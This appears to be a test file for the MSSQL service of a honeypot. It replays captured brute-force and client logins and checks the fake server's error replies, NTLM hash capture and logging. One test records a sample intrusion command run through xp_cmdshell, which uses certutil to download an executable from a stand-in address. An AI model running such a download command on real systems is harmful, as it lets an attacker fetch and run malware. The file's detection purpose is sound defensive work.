import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { conforms } from '../conformance.ts';
import { type Played, play, TEST_NOW, TEST_SEED } from '../play.ts';
import { makePersona } from '../surfaces/personas.ts';
import { mssql } from './service.ts';

const fixture = (name: string): Buffer => readFileSync(join(import.meta.dirname, 'fixtures', `${name}.bin`));
const fixtures = (...names: string[]): Record<string, Buffer> =>
  Object.fromEntries(names.map((name) => [name, fixture(name)]));
const persona = makePersona('windows-server', TEST_SEED, TEST_NOW);
const ALWAYS = { lure: { accept: 'always' } };
const PASSWORD = { lure: { accept: 'list', logins: [{ username: 'sa', password: 'P@ssw0rd!é' }] } };

conforms(
  mssql,
  fixtures(
    'freetds-7.4',
    'freetds-7.0',
    'freetds-4.2',
    'hydra',
    'medusa',
    'ncrack',
    'load',
    'tedious-ntlm',
    'tedious-session',
  ),
);
conforms(mssql, fixtures('tedious-session', 'tedious-ntlm', 'freetds-4.2-session', 'freetds-intrusion'), {
  options: ALWAYS,
});

function attempts(played: Played): Record<string, unknown>[] {
  return played.events.filter(({ type }) => type === 'auth.attempt').map(({ fields }) => fields);
}
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('latin1');

test('a refused login of each tool is recorded with its password and answered with error 18456', () => {
  for (const [name, password] of [
    ['freetds-7.4', 'S3cret!'],
    ['freetds-7.0', 'S3cret!'],
    ['freetds-4.2', 'S3cret!'],
    ['hydra', 'Passw0rd'],
    ['medusa', 'Passw0rd'],
    ['ncrack', 'Passw0rd'],
    ['tedious-session', 'P@ssw0rd!é'],
  ] as const) {
    const played = play(mssql, [fixture(name)]);
    const [attempt] = attempts(played);
    assert.equal(attempts(played).length, 1, name);
    assert.deepEqual([attempt?.username, attempt?.password, attempt?.accepted], ['sa', password, false], name);
    assert.equal(played.closed, 'service_closed', name);
    const wide = !['freetds-4.2', 'hydra', 'medusa', 'ncrack'].includes(name);
    const say = "Login failed for user 'sa'.";
    assert.ok(played.sent.includes(wide ? utf16(say) : say), name);
    assert.ok(played.sent.includes(wide ? utf16(persona.hostName) : persona.hostName), name);
  }
});

test('the refusal is ERROR 18456, state 1, class 14, line 1, then DONE', () => {
  const played = play(mssql, [fixture('freetds-7.4')]);
  const sent = Buffer.from(played.sent, 'latin1');
  const reply = sent.subarray(sent.readUInt16BE(2));
  assert.equal(reply[0], 4);
  assert.equal(reply[8], 0xaa);
  assert.equal(reply.readInt32LE(11), 18456);
  assert.deepEqual([reply[15], reply[16]], [1, 14]);
  const end = 11 + reply.readUInt16LE(9);
  assert.equal(reply.readUInt32LE(end - 4), 1, 'line number');
  assert.equal(reply.subarray(end).toString('hex'), 'fd020000000000000000000000');
});

test('an NTLM login is challenged and recorded in the form that hashcat reads', () => {
  const played = play(mssql, [fixture('tedious-ntlm')]);
  const [attempt] = attempts(played);
  assert.equal(attempt?.mechanism, 'ntlmssp');
  assert.equal(attempt?.hash_format, 'netntlmv2');
  assert.match(String(attempt?.hash), /^sa::CORP:[0-9a-f]{16}:[0-9a-f]{32}:[0-9a-f]{16}$/);
  assert.ok(played.sent.includes('NTLMSSP\0\x02'));
  assert.ok(played.sent.includes(utf16('The login is from an untrusted domain')));
});

test('a list lets in the password that it names, and no other', () => {
  assert.equal(attempts(play(mssql, [fixture('tedious-session')], { options: PASSWORD }))[0]?.accepted, true);
  assert.equal(attempts(play(mssql, [fixture('freetds-7.4')], { options: PASSWORD }))[0]?.accepted, false);
});

test('a login that is let in meets the session of a real server', () => {
  const played = play(mssql, [fixture('tedious-session')], { options: ALWAYS });
  const queries = played.events.filter(({ type }) => type === 'query').map(({ fields }) => fields.statement);
  assert.ok(
    queries.includes('select @a as a, @b as b, @@spid s, getdate() d, newid() g, cast(1.5 as float) f, 0x0102 bin'),
  );
  assert.ok(queries.includes('BEGIN TRANSACTION'));
  assert.ok(queries.includes('ROLLBACK TRANSACTION'));
  assert.ok(played.sent.includes(utf16("Changed database context to 'master'.")));
  assert.ok(played.sent.includes(utf16('Microsoft SQL Server\0\0')));
  assert.equal(played.closed, undefined);
});

test('commands for the system and the addresses in them are recorded', () => {
  const played = play(mssql, [fixture('freetds-intrusion')], { options: ALWAYS });
  const command = 'whoami & certutil -urlcache -f http://198.51.100.9/a.exe c:\\a.exe';
  assert.deepEqual(
    played.events
      .filter(({ type }) => type === 'command.input' || type === 'file.requested')
      .map(({ fields }) => fields),
    [
      { command, detail: { via: 'xp_cmdshell' } },
      { urls: ['http://198.51.100.9/a.exe'], command },
    ],
  );
});

test('a database that there is not is refused with error 4060 before 18456', () => {
  const bytes = Buffer.from(fixture('tedious-session'));
  const at = bytes.indexOf(Buffer.from('master', 'utf16le'));
  bytes.write('nosuch', at, 'utf16le');
  const played = play(mssql, [bytes], { options: ALWAYS });
  assert.ok(played.sent.includes(utf16('Cannot open database "nosuch" requested by the login. The login failed.')));
  assert.ok(played.sent.includes(utf16("Login failed for user 'sa'.")));
  assert.equal(attempts(played)[0]?.accepted, false);
});

test('what is no TDS is recorded and closed without a word', () => {
  const played = play(mssql, ['GET / HTTP/1.0\r\n\r\n']);
  assert.deepEqual(played.events, [{ type: 'peer.malformed', fields: { code: 'tds_packet_type', bytes: 'GET / HT' } }]);
  assert.equal(played.sent, '');
  assert.equal(played.closed, 'protocol_error');
});

test('a login in clear after encryption was agreed is recorded and closed without a word', () => {
  const bytes = Buffer.from(fixture('load'));
  const encryption = bytes.indexOf(Buffer.from([0x0c, 0x00, 0x10, 0x04, 0, 0, 2])) + 6;
  bytes[encryption] = 0;
  const played = play(mssql, [bytes]);
  assert.equal(attempts(played).length, 1);
  assert.equal(attempts(played)[0]?.accepted, false);
  assert.equal(played.closed, 'protocol_error');
  assert.ok(!played.sent.includes(utf16('Login failed')));
});

test('an unencrypted login to a server that requires encryption is recorded and closed', () => {
  const played = play(mssql, [fixture('hydra')], { options: { encryption: 'required' } });
  assert.equal(attempts(played).length, 1);
  assert.equal(played.closed, 'protocol_error');
});

test('a message longer than the limit is answered, and the limit recorded', () => {
  const login = fixture('freetds-7.0');
  const batch = Buffer.alloc(8 + 30_000, 0x20);
  batch.set([1, 1, (batch.length >> 8) & 0xff, batch.length & 0xff, 0, 0, 1, 0]);
  const played = play(mssql, [login, batch], { options: { ...ALWAYS, maxMessageBytes: 4096 } });
  const limit = played.events.find(({ type }) => type === 'limit.reached');
  assert.deepEqual(limit?.fields, { limit: 'message bytes', value: 4096 });
  assert.equal(played.closed, undefined);
});

test('two sensors share no host name in what they say', () => {
  const other = makePersona('windows-server', Buffer.alloc(32, 99), TEST_NOW);
  const one = play(mssql, [fixture('tedious-ntlm')], { persona });
  const two = play(mssql, [fixture('tedious-ntlm')], { persona: other });
  assert.notEqual(persona.hostName, other.hostName);
  assert.ok(!two.sent.includes(utf16(persona.hostName)));
  assert.ok(!one.sent.includes(utf16(other.hostName)));
});
